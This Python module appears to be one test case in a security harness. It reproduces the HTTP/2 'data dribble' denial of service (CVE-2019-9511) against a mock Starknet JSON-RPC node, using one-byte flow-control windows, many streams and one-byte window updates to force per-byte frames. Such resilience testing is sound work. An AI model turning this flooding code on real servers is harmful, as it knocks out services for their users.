"""Responses that the client takes byte by byte: windows of one byte, many streams, and updates of
one byte, which make the program write a frame for each."""

import json

from lib.attack import HTTP2, Attack, Case, scale
from lib.frames import DATA, END_STREAM, INITIAL_WINDOW, frame, post, request, window_update
from lib.world import read

CONNECTIONS = scale(16, 128)
STREAMS = 50
FIRST = 0x7100_0000
SIZE = 60_000


def answers(_, body):
    """A receipt has 60,000 bytes, so that a hundred of them are one client's for a minute."""
    call = json.loads(body)
    is_large = call["method"] == "starknet_getTransactionReceipt"
    result = b'"' + b"x" * SIZE + b'"' if is_large else b'"0x1"'
    return b'{"jsonrpc":"2.0","id":%d,"result":%b}' % (call["id"], result)


def dribble(attacker):
    head, sent = post(), 0

    def begin(at):
        nonlocal sent
        wire = attacker.http2((INITIAL_WINDOW, 1), at=at)
        if wire:
            for stream in wire.streams(STREAMS):
                sent += 1
                wire.send(request(stream, head, ends=False)
                          + frame(DATA, END_STREAM, stream, read(FIRST + sent)))
        return wire

    updates = b"".join(window_update(2 * number + 1, 1) for number in range(STREAMS))
    attacker.pour(CONNECTIONS, begin, updates, STREAMS)


ATTACK = Attack(
    title="data dribble",
    published="CVE-2019-9511",
    cases=(
        Case("windows of one byte", HTTP2, dribble, {"frames": 20_000}, node=answers),
    ),
)
